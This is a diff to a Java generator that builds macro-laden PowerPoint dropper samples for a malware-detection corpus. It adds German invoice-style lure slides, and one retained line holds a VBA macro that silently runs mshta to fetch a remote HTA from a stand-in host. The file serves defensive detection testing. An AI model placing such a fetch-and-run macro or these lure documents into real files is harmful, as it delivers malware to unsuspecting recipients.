@@ -13,9 +13,9 @@ import org.peekaboo.office.testing.PowerPointFiles;
  * PowerPoint 97-2003 presentations (.ppt, and .pps, which opens straight into the slide show)
  * for the detection corpus: droppers whose VBA project runs by a slide-show procedure, an
  * add-in's Auto_Open or an ActiveX event on a slide and carries one of {@link DropperMacros}'
- * payloads, in a presentation with slides as PowerPoint writes it (POI's HSLF, the VBA project
- * added by a fast-save edit) or in a bare one as droppers' generators write it (uncompressed,
- * without the VBAInfo pointer), or inside a Word document embedded in a slide; and
+ * payloads, in presentations with slides as PowerPoint writes them (POI's HSLF), the VBA project
+ * added by a fast-save edit compressed, uncompressed or without the VBAInfo pointer (as sloppy
+ * generators write it), or inside a Word document embedded in the presentation; and
  * presentations with harmless macros. Words in modules only: nothing here can run.
  */
 final class DropperPowerPoint {
@@ -58,12 +58,9 @@ final class DropperPowerPoint {
                 case 1 -> "-uncompressed";
                 default -> "-no-vbainfo";
             };
-            byte[] bytes = switch (p % 3) {
-                case 0 -> PowerPointFiles.withVba(PowerPointFiles.presentation("Rechnung " + (4711 + p),
-                        "Bitte die Bildschirmpraesentation starten"), modules);
-                case 1 -> PowerPointFiles.builder().vba(modules).uncompressed().build();
-                default -> PowerPointFiles.builder().vba(modules).withoutVbaInfo().build();
-            };
+            byte[] slides = PowerPointFiles.presentation("Rechnung " + (4711 + p),
+                    "Bitte die Bildschirmpraesentation starten");
+            byte[] bytes = PowerPointFiles.withVba(slides, modules, p % 3 != 1, p % 3 != 2);
             String extension = trigger.tag().startsWith("slideshow") ? "pps" : "ppt";
             samples.add(new Sample("malicious", "pp%02d-%s-%s%s.%s".formatted(p + 1, trigger.tag(), payload.tag(),
                     storage, extension), bytes));
@@ -72,7 +69,7 @@ final class DropperPowerPoint {
                 "    CreateObject(\"WScript.Shell\").Run \"mshta http://example.invalid/slide.hta\", 0",
                 "End Sub"));
         samples.add(new Sample("malicious", "pp%02d-embedded-doc-document-open.ppt".formatted(payloads.size() + 1),
-                PowerPointFiles.builder().embed(doc).build()));
+                PowerPointFiles.presentation(doc, "Lieferschein", "Doppelklick auf das Dokument")));
         return samples;
     }
 
